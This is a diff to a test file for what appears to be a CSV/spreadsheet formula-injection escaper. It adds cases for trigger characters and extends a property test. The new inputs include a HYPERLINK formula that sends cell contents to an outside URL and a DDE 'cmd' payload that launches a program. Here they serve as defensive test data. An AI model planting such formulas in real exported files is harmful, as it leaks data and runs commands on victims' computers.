@@ -17,6 +17,13 @@ it.each([
   ['=1+1', "'=1+1"],
   ['-5', "'-5"],
   ['@a', "'@a"],
+  ['+1', "'+1"],
+  ['\t=1', "'\t=1"],
+  ['\r=1', "'\r=1"],
+  ['\n=1', "'\n=1"],
+  ['＝1', "'＝1"],
+  ['=HYPERLINK("https://x.org/?"&A1)', '\'=HYPERLINK("https://x.org/?"&A1)'],
+  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
   ["'=1", "''=1"],
   ["'tis", "'tis"],
   ['a=b', 'a=b'],
@@ -27,7 +34,7 @@ it.each([
 
 it('what was guarded comes back, whatever it is', () => {
   const cells = fc
-    .array(fc.constantFrom("'", '=', '-', '+', '@', 'a', '\t'))
+    .array(fc.constantFrom("'", '=', '-', '+', '@', 'a', '\t', '\n', '＝'))
     .map((all) => all.join(''));
   fc.assert(fc.property(cells, (cell) => unguarded(guarded(cell)) === cell));
 });
